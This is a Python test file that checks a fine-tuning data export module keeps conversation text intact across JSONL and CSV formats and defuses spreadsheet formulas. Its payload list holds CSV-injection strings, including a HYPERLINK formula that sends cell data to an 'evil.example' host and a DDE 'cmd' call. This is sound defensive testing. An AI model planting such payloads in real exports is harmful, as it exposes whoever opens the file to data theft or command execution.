"""Any text survives every format of an export, and none becomes a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.conversation import Language
from finetune.curation.formats import Format, defuse, lines_of, opening, undo_defuse
from finetune.records import Conversation, Exchange
from tests.example_turns import NOON

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"退款")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "  ＠SUM(1)",
    "－2+3",
    "\u3000=1+1",
    "'=1+1",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_starts_with_what_a_spreadsheet_calculates(payload: str) -> None:
    cell = defuse(payload)
    assert cell.startswith("'")
    assert undo_defuse(cell) == payload


def _conversation(question: str, answer: str) -> Conversation:
    exchange = Exchange("t", question, answer, Language.ZH, at=NOON)
    return Conversation("c", "kefu-log", Language.ZH, (exchange,), channel="web")


_texts = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40) | st.sampled_from(
    ["\u2028", "\u2029", "\x85", "\r\n", "=1", "'", '"', "\x00", "😀", *PAYLOADS]
)


@given(question=_texts, answer=_texts)
def test_any_text_survives_every_jsonl_format(question: str, answer: str) -> None:
    found: list[tuple[str, str]] = []
    kinds: tuple[Format, ...] = ("messages", "sharegpt", "alpaca")
    for kind in kinds:
        text = opening(kind) + "".join(lines_of(kind, _conversation(question, answer)))
        (line,) = text.splitlines()  # also those of Unicode
        row = json.loads(line)
        if kind == "messages":
            found.append((row["messages"][0]["content"], row["messages"][1]["content"]))
        elif kind == "sharegpt":
            found.append((row["conversations"][0]["value"], row["conversations"][1]["value"]))
        else:
            found.append((row["instruction"], row["output"]))
    assert found == [(question, answer)] * 3


@given(question=_texts, answer=_texts)
def test_any_text_survives_csv_and_no_cell_is_a_formula(question: str, answer: str) -> None:
    text = opening("csv") + "".join(lines_of("csv", _conversation(question, answer)))
    (_, row) = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert not any(cell.lstrip(" \u3000\u00a0").startswith(tuple("=+-@\t\r\n＝＋－＠")) for cell in row)
    assert (undo_defuse(row[3]), undo_defuse(row[4])) == (question, answer)
